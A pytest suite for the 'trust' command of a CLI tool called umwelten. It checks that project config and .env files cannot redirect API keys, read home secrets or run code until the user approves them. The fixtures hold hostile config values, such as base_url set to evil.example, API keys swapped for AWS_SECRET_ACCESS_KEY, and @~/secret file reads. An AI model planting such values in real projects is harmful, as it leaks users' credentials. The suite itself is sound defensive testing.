"""`umwelten trust`, and every command before it: nothing is sent, read, written or run."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from click.testing import CliRunner

import umwelten
from provider import Provider, provider
from umwelten.cli.app import cli as command_line
from umwelten.cli.flag_names import as_flag
from umwelten.config.options import SETTINGS
from umwelten.errors import UmweltenError, Untrusted

KEY = "sk-of-the-user-0123456789"
SCHEMA = """
from pathlib import Path
from pydantic import BaseModel
Path(__file__).with_name("ran").write_text("")
class A(BaseModel):
    text: str
"""
DANGERS = {
    "address": "[providers.openai]\nbase_url = 'https://evil.example/v1'",
    "variable": "[providers.openai]\napi_key_env = 'AWS_SECRET_ACCESS_KEY'",
    "file": "[defaults]\nsystem = '@~/secret'",
    "code": "[defaults]\nschema = 's.py:A'",
    "folder": "[defaults]\noutput_dir = '~/out'",
    "insecure": "[providers.openai]\nallow_insecure = true\nbase_url = 'http://8.8.8.8/v1'",
    "dotenv address": "OPENAI_BASE_URL=https://evil.example/v1",
    "dotenv variable": "OPENAI_API_KEY=${AWS_SECRET_ACCESS_KEY}",
    "dotenv code": "UMWELTEN_SCHEMA=s.py:A",
    "dotenv file": "UMWELTEN_SYSTEM=@../home/secret",
    "profile": "[profiles.p]\nattach = '~/secret'",
    "profile code": "[profiles.p]\nschema = 's.py:A'",
}
RUN = ("eval", "run", "-p", "go", "-m", "openai:a", "-i", "t")


class Home:
    """A user with a home and keys, a project folder, and a proxy that counts who wants to get out."""

    def __init__(self, root: Path, port: int) -> None:
        self.home, self.project = root / "home", root / "project"
        self.home.mkdir()
        self.project.mkdir()
        (self.home / "secret").write_text("do-not-send")
        (self.project / "s.py").write_text(SCHEMA)
        proxy = f"http://127.0.0.1:{port}"
        self.env = {
            "HOME": str(self.home),
            "XDG_CONFIG_HOME": str(self.home / ".config"),
            "OPENAI_API_KEY": KEY,
            "AWS_SECRET_ACCESS_KEY": "aws-do-not-send",
            "https_proxy": proxy,
            "http_proxy": proxy,
        }
        self.connections: list[bytes] = []

    def write(self, danger: str) -> None:
        text = DANGERS[danger]
        if danger == "dotenv variable":
            del self.env["OPENAI_API_KEY"]
        (self.project / (".env" if danger.startswith("dotenv") else "umwelten.toml")).write_text(text + "\n")

    def touched(self) -> bool:
        """Whether anything was sent, run or written."""
        left = (self.project / "ran", self.home / "out", self.project / "output", self.project / "sub/output")
        return bool(self.connections) or any(path.exists() for path in left)


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Home]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        place = Home(tmp_path, listener.getsockname()[1])

        def serve() -> None:
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    place.connections.append(connection.recv(1000))
                    connection.sendall(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield place
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(5)


class Done(NamedTuple):
    """What a command in this process came to."""

    code: int
    out: str
    err: str


@pytest.fixture
def call(place: Home, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Done]:
    """Run a command that makes no calls in this process."""

    def run(*arguments: str, cwd: Path | None = None, **env: str) -> Done:
        monkeypatch.chdir(cwd or place.project)
        with monkeypatch.context() as patch:
            for name, value in {**place.env, **env}.items():
                patch.setenv(name, value)
            result = CliRunner().invoke(command_line, arguments)
        error = result.exception
        if isinstance(error, UmweltenError):
            return Done(error.exit_code, result.stdout, f"{result.stderr}{error.spell(as_flag)}")
        return Done(result.exit_code, result.stdout, result.stderr)

    return run


@pytest.mark.parametrize("danger", DANGERS)
def test_nothing_is_done_before_it_is_trusted(call, place: Home, danger: str) -> None:
    place.write(danger)
    profile = ("--profile", "p") if danger.startswith("profile") else ()
    cwd = place.project
    if danger in ("address", "code", "dotenv address"):
        cwd = place.project / "sub"  # the files of a folder above count as well
        cwd.mkdir()
    commands = [(*RUN, *profile), (*RUN, "--dry-run", *profile)]
    commands += [("models", "list")] if danger in ("address", "dotenv address", "dotenv variable") else []
    for command in commands:
        done = call(*command, cwd=cwd)
        assert done.code == 2 and not done.out, done
        assert "this project's file" in done.err and done.err.endswith("Look at it, then: umwelten trust")
        assert "do-not-send" not in done.err and KEY not in done.err
        assert not place.touched()
    done = call("trust", cwd=cwd)
    assert done.code == 2 and "nothing was changed" in done.err and "line " in done.err
    assert not (place.home / ".config" / "umwelten").exists()
    done = call("trust", "--yes", cwd=cwd)
    assert done.code == 0 and done.out.startswith("trusted: ") and not place.touched()
    done = call(*RUN, "--dry-run", *profile, cwd=cwd)
    assert "this project's file" not in done.err
    assert done.code == 0, done
    assert (place.project / "ran").exists() == ("code" in danger)
    assert not place.connections


def test_what_is_trusted_is_done(cli, call, place: Home) -> None:
    place.write("dotenv address")
    (place.project / "umwelten.toml").write_text(DANGERS["code"])
    code, out, err = cli(*RUN, env=place.env, cwd=place.project)
    assert code == 2 and not out and not place.touched()
    assert err.splitlines()[0].startswith("Error: umwelten.toml:2: this project's file runs the Python file")
    assert err.splitlines()[1].startswith(".env:1: this project's file sends OPENAI_API_KEY to https://evil")
    call("trust", "--yes")
    code, _, err = cli(*RUN, "--retries", "0", env=place.env, cwd=place.project)
    assert code == 3 and "openai is reached at https://evil.example/v1 (./.env)" in err
    assert place.connections[0].startswith(b"CONNECT evil.example:443")
    assert (place.project / "ran").exists()


def test_a_changed_byte_asks_again_and_trust_can_be_taken_back(call, place: Home) -> None:
    place.write("code")
    assert call("trust", "-y").code == 0
    (place.project / "s.py").write_text(SCHEMA + "#")
    done = call(*RUN)
    assert done.code == 2 and not place.touched()
    assert f"umwelten.toml:2: this project's file runs the Python file {place.project}/s.py" in done.err
    assert call("trust", "-y").code == 0
    assert call("trust").out == "all of it is trusted already\n"
    listed = call("trust", "--list", cwd=place.home).out
    assert f"{place.project}/umwelten.toml" in listed and listed.count("runs the Python file") == 2
    assert call("trust", "--forget").code == 0
    assert call("trust", "--list", cwd=place.home).out == "nothing is trusted\n"
    assert call(*RUN, "--dry-run").code == 2
    assert call("trust", "-y").code == 0
    moved = place.project.rename(place.project.with_name("moved"))
    assert call(*RUN, "--dry-run", cwd=moved).code == 2
    (moved / "umwelten.toml").unlink()
    assert call("trust", cwd=moved)[:2] == (0, "there is nothing to trust here\n")


def test_what_is_not_used_is_not_asked_about(call, place: Home) -> None:
    (place.project / "umwelten.toml").write_text("\n".join(DANGERS[name] for name in ("file", "address")))
    own = {"OPENAI_BASE_URL": "https://gw.example/v1"}
    done = call(*RUN, "-s", "mine", "--dry-run", **own)  # both are overridden
    assert done.code == 0 and "openai is reached at https://gw.example/v1 (OPENAI_BASE_URL)" in done.err
    other = ("eval", "run", "-p", "go", "-s", "mine", "-m", "anthropic:claude-sonnet-4-5", "--dry-run")
    assert call(*other, ANTHROPIC_API_KEY="k-1234567").code == 0
    assert call("models", "list", "-p", "lmstudio").code == 0


def test_a_cap_that_counts_by_prices_of_the_project_says_so(call, place: Home) -> None:
    (place.project / "umwelten.toml").write_text('[prices."openai:gpt-4o"]\ninput = 0\noutput = 0')
    run = ("eval", "run", "-p", "go", "-m", "openai:gpt-4o", "--dry-run")
    assert (
        "--max-cost counts openai:gpt-4o by the prices in umwelten.toml" in call(*run, "--max-cost", "1").err
    )
    assert "prices in" not in call(*run).err


def test_the_start_names_the_address_and_where_it_is_set(cli, call, place: Home) -> None:
    with provider() as server:
        (place.project / ".env").write_text(f"OPENAI_BASE_URL={server.env()['OPENAI_BASE_URL']}\n")
        line = f"openai is reached at http://127.0.0.1:{server.port}/v1 (./.env)"
        code, out, err = cli(*RUN, env=place.env, cwd=place.project)
        assert code == 0 and line in err and line not in out
    run = ("eval", "run", "-p", "go", "-m", "openai:a,anthropic:b", "--dry-run")
    assert f"address  {line}" in call(*run, ANTHROPIC_API_KEY="k-1234567").out
    addresses = json.loads(call(*run, "--json", ANTHROPIC_API_KEY="k-1234567").out)["addresses"]
    assert addresses["openai"]["source"] == "./.env" and not addresses["openai"]["is_usual"]
    usual = {"base_url": "https://api.anthropic.com", "source": "default", "is_usual": True}
    assert addresses["anthropic"] == usual


def test_the_environment_trusts_everything_and_a_file_nothing(call, place: Home) -> None:
    place.write("dotenv code")
    with (place.project / ".env").open("a") as file:
        file.write("UMWELTEN_TRUST=1\n")
    done = call(*RUN)
    assert done.code == 2 and not place.touched(), done
    done = call(*RUN, "--dry-run", UMWELTEN_TRUST="1")
    assert done.code == 0 and "UMWELTEN_TRUST counts in the environment alone" in done.err
    assert (place.project / "ran").exists()


def test_a_library_asks_the_same(place: Home, server: Provider, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(place.project)
    for name, value in {**server.env(), "HOME": str(place.home)}.items():
        monkeypatch.setenv(name, value)
    place.write("code")
    with pytest.raises(Untrusted, match="runs the Python file"):
        umwelten.run("go", "openai:a").wait()
    assert not place.touched() and not server.ledger.requests
    assert umwelten.run("go", "openai:a", schema="text").wait().id  # an argument is the program's own
    assert not (place.project / "ran").exists()


@pytest.fixture
def server() -> Iterator[Provider]:
    with provider() as running:
        yield running


def test_config_show_marks_what_is_not_trusted(call, place: Home) -> None:
    place.write("address")
    done = call("config", "show", "--json")
    assert done.code == 0
    (line,) = json.loads(done.out)["untrusted"]
    assert line.startswith(
        "umwelten.toml:2: this project's file sends OPENAI_API_KEY to https://evil.example"
    )


def test_what_is_granted_is_kept_though_nobody_reads_it(place: Home) -> None:
    place.write("file")
    reader, writer = os.pipe()
    os.close(reader)
    command = [sys.executable, "-m", "umwelten", "trust", "--yes"]
    subprocess.run(command, cwd=place.project, env={**os.environ, **place.env}, stdout=writer, timeout=20)
    os.close(writer)
    assert "reads" in (place.home / ".config/umwelten/trust.json").read_text()


def test_a_list_of_what_is_trusted_that_cannot_be_read_is_not_replaced(call, place: Home) -> None:
    place.write("file")
    kept = place.home / ".config/umwelten/trust.json"
    kept.parent.mkdir(parents=True)
    for text, why in {"{": "damaged", '{"version":2,"files":{}}': "another version"}.items():
        kept.write_text(text)
        for flags in ((), ("--yes",), ("--list",), ("--forget",)):
            done = call("trust", *flags)
            assert done.code == 2 and str(kept) in done.err and why in done.err and not done.out
        assert kept.read_text() == text
        assert call(*RUN).code == 2 and not place.touched()  # it trusts nothing


CANARY = "CanarySecret0123456789"
ADDRESSES = (
    "${C}",
    "https://${C}.evil.example/v1",
    "https://gw.example/${C}/v1/chat/completions",
    "http://${C}",
)
_VARIABLES = [
    *(f"UMWELTEN_{key.upper()}={form}" for key in SETTINGS for form in ("${C}", "/nowhere/${C}")),
    *(f"OPENAI_BASE_URL={form}" for form in (*ADDRESSES, "http://[${C}]/v1", "${C}@x?y")),
    *(f"OLLAMA_HOST={form}" for form in ADDRESSES),
]


@pytest.mark.parametrize("line", _VARIABLES)
def test_what_a_dotenv_takes_from_the_environment_is_shown_nowhere(call, place: Home, line: str) -> None:
    """Neither before it is trusted nor after."""
    (place.project / ".env").write_text(line.replace("${C}", "${SOME_TOKEN}") + "\n")
    place.env["SOME_TOKEN"] = CANARY
    provider = "ollama" if line.startswith("OLLAMA") else "openai"
    run = ("eval", "run", "-p", "go", "--dry-run", *(() if "_MODELS=" in line else ("-m", f"{provider}:a")))
    for command in (
        run,
        (*run, "--json"),
        ("config", "show", "--json"),
        ("trust", "--yes"),
        run,
        ("config", "show"),
    ):
        done = call(*command)
        assert CANARY.casefold() not in f"{done.out}{done.err}".casefold(), (command, done)
    kept = place.home / ".config/umwelten/trust.json"
    assert not kept.exists() or CANARY not in kept.read_text()


@pytest.mark.skipif(os.name == "nt", reason="a terminal of POSIX")
def test_a_terminal_is_asked(place: Home) -> None:
    place.write("file")
    ours, theirs = os.openpty()
    command = [sys.executable, "-m", "umwelten", "trust"]
    env = {**os.environ, **place.env}
    for answer, status in {"n": 2, "y": 0}.items():
        with subprocess.Popen(
            command, cwd=place.project, env=env, stdin=theirs, stdout=subprocess.PIPE, stderr=theirs
        ) as process:
            os.write(ours, f"{answer}\n".encode())
            out, _ = process.communicate(timeout=20)
        assert process.returncode == status and out == (b"" if status else b"trusted: 1\n")
        assert f"reads {place.home}/secret, to send it (system)".encode() in os.read(ours, 10_000)
        assert (place.home / ".config/umwelten/trust.json").exists() == (status == 0)
    os.close(theirs)
    os.close(ours)
